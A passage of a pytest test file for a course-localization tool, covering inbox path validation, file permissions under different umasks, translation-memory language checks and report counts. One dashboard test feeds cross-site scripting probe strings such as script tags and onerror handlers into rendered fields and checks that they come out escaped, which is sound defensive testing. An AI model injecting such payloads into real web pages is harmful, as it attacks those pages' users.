        f"error: partner 'cairo' inbox ({inbox}) holds *, ? or $, which an access policy reads as a wildcard or "
        "a variable: give the inbox a plain prefix (s3://BUCKET/inboxes/PARTNER)\n"
    )
    assert not (project.root / "policies").exists()


# -- the dashboard escapes what a partner's return put into the QA record --------------------------


def test_the_dashboard_escapes_a_qa_state_and_counts_with_markup() -> None:
    from localize.views.dashboard import render_dashboard

    row = {
        "course": "waves",
        "locale": "es",
        "entries": 10,
        "translated": 1,
        "fuzzy": 0,
        "untranslated": 9,
        "words": 10,
        "translated_words": 1,
        "translated_words_percent": 50.0,
        "translated_percent": 10.0,
        "state": "<script>alert('state')</script>",
        "due": "",
        "overdue": False,
        "last_qa": {"state": "<img src=x onerror=alert(1)>", "accepted": "<b>1</b>", "rejected": "<svg onload=x>"},
        "published": {},
    }
    data = {
        "generated": "now",
        "overdue": [],
        "groups": [{"id": "lima", "name": "Lima <i>", "locales": ["es"], "rows": [row]}],
        "series": {},
    }
    page = render_dashboard(data)
    for raw in ("<script>alert('state')", "<img src=x", "<b>1</b>", "<svg onload", "Lima <i>"):
        assert raw not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "&lt;svg onload=x&gt;" in page


# -- files keep the user's permissions ---------------------------------------------------------------

UMASK_SCRIPT = """\
import os, sys
os.umask(int(sys.argv[1], 8))
from localize.cli import main
for argv in sys.argv[2:]:
    code = main(argv.split("\\x1f"))
    assert code in (0, 1), (argv, code)
"""


@pytest.mark.parametrize("umask", [0o002, 0o022])
def test_every_writer_uses_the_users_umask(umask: int, pristine: Path, tmp_path: Path) -> None:
    root = tmp_path / "p"
    shutil.copytree(pristine, root, symlinks=True)
    for path in root.rglob("*"):  # start over: everything the commands below write is new
        if path.is_file() and "kits" not in path.parts:
            path.chmod(0o600)
    shutil.rmtree(root / "inboxes")
    shutil.rmtree(root / "locales" / "assignments")
    p = Project(root)
    cfg = str(p.config)
    ws = str(p.ws)
    argv = [
        ["extract", str(RETURNS / "course"), "--course", COURSE, "--locales-dir", str(tmp_path / "ws2")],
        ["route", "--course", COURSE, "--locale", "es", "--config", cfg],
    ]
    env = dict(os.environ, PYTHONPATH=f"{ROOT / 'src'}{os.pathsep}{ROOT}")
    sep = "\x1f"
    subprocess.run(
        [sys.executable, "-c", UMASK_SCRIPT, oct(umask), *(sep.join(a) for a in argv)], env=env, check=True, cwd=root
    )
    # a return through the whole gate, in the same umask
    (p.returns).mkdir(parents=True, exist_ok=True)
    (p.returns / "return.po").write_bytes(p.good())
    export = ["tm", "export", "--locale", "es", "--out", str(tmp_path / "tm.po"), "--locales-dir", ws]  # not empty now
    subprocess.run(
        [
            sys.executable, "-c", UMASK_SCRIPT, oct(umask),
            sep.join(["ingest", "--partner", "lima", "--config", cfg]), sep.join(export),
        ],
        env=env,
        check=True,
        cwd=root,
    )  # fmt: skip
    want = 0o666 & ~umask
    written = [
        tmp_path / "ws2" / "templates" / f"{COURSE}.pot",
        tmp_path / "tm.po",
        *(p.lima / "kits").rglob("*.*"),
        *(p.lima / "reports").iterdir(),
        *(p.ws / "archive" / "returns" / "lima").iterdir(),
        *(p.ws / "assignments").rglob("*.json"),
        p.returns / "processed" / "return.po",
    ]
    assert len(written) >= 10
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) == want, (path, oct(path.stat().st_mode))


def test_merge_keeps_the_mode_of_the_file_it_replaces(project: Project) -> None:
    po = project.ws / "es" / "LC_MESSAGES" / f"{COURSE}.po"
    po.chmod(0o664)
    code, _, err = cli("merge", str(po), str(project.ws / "templates" / f"{COURSE}.pot"))
    assert code == 0, err
    assert stat.S_IMODE(po.stat().st_mode) == 0o664


# -- tm import of a file in another language says so -----------------------------------------------

TM_FILES = {
    "po-in-arabic": (
        "memory.po",
        b'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: ar\\n"\n\n'
        b'msgid "Hello"\nmsgstr "\xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7"\n',
        "memory.po:1: this file is in 'ar' (its Language header), not es: nothing imported; "
        "import it with --locale set to its language",
    ),
    "tmx-in-french": (
        "memory.tmx",
        b'<?xml version="1.0"?><tmx version="1.4"><header srclang="en"/><body>'
        b'<tu><tuv xml:lang="en"><seg>Hello</seg></tuv><tuv xml:lang="fr"><seg>Bonjour</seg></tuv></tu>'
        b"</body></tmx>",
        "memory.tmx: this TMX file has no es translations (its languages: fr); "
        "import it with --locale set to its language",
    ),
}


@pytest.mark.parametrize("name", sorted(TM_FILES))
def test_tm_import_of_another_language_says_so(name: str, project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    filename, data, message = TM_FILES[name]
    (project.root / filename).write_bytes(data)
    monkeypatch.chdir(project.root)
    code, _out, err = cli("tm", "import", filename, "--locale", "es", "--locales-dir", str(project.ws))
    assert code == 2 and err == f"error: {message}\n"
    assert not (project.ws / "memory").exists()


# -- counts and listed problems agree, on every fixture return ---------------------------------------

FIXTURES = sorted(p.name for p in (RETURNS / "files").glob("*.po"))


@pytest.mark.parametrize("name", FIXTURES)
def test_the_report_counts_each_rejected_entry_once_and_lists_it(name: str, project: Project) -> None:
    data = (RETURNS / "files" / name).read_bytes().replace(b"KIT", project.kit().encode()).replace(b"acme", b"lima")
    project.drop(name, data)
    ingest(project)
    [report] = project.reports()
    rejected = [e for e in report["entries"] if e["status"] == "rejected"]  # type: ignore[union-attr]
    keys = {tuple(q["key"]) for q in report["problems"] if q["severity"] == "error" and q["key"]}  # type: ignore[union-attr]
    assert report["rejected"] == len(rejected) == len({(e["msgctxt"], e["msgid"]) for e in rejected})
    if report["entries"]:
        assert {(e["msgctxt"], e["msgid"]) for e in rejected} == keys
    html = next((project.lima / "reports").glob("*.html")).read_text(encoding="utf-8")
    assert html.count('<li class="rejected">') == report["rejected"]
    assert f"<li>{report['rejected']} rejected" in html
